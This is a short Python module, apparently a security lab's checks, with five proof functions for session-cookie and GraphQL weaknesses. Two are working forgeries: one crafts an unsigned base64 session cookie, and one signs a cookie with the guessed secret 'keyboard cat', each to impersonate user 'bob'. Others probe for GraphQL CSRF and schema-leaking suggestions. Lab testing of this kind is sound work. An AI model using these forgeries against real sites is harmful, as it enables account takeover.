"""Exploits of sessions in cookies, and of two endpoints' manners."""

import base64
import hashlib
import hmac
import json
from urllib.parse import quote

from lab.client import Lab


async def _forged(lab: Lab) -> bool:
    value = base64.urlsafe_b64encode(json.dumps({"username": "bob"}).encode()).decode().rstrip("=")
    return "Hello bob" in (await lab.send("GET", "/club", headers={"Cookie": f"club={value}"})).text


async def _signed(lab: Lab) -> bool:
    digest = base64.b64encode(hmac.new(b"keyboard cat", b"bob", hashlib.sha256).digest()).decode().rstrip("=")
    cookie = {"Cookie": f"desk={quote(f's:bob.{digest}', safe='')}"}
    return "Hello bob" in (await lab.send("GET", "/desk", headers=cookie)).text


async def _prefix(lab: Lab) -> bool:
    return "Secure" not in (await lab.get("/theme")).set_cookies[0]


async def _form(lab: Lab) -> bool:
    return "__typename" in (await lab.post("/gql", query="query{__typename}")).text


async def _hint(lab: Lab) -> bool:
    return "Did you mean" in (await lab.send("POST", "/api/graphql", json={"query": "query{__typenam}"})).text


PROOFS = {
    "session-forgery": _forged,
    "session-weak-secret": _signed,
    "cookie-prefix": _prefix,
    "graphql-csrf": _form,
    "graphql-suggestions": _hint,
}
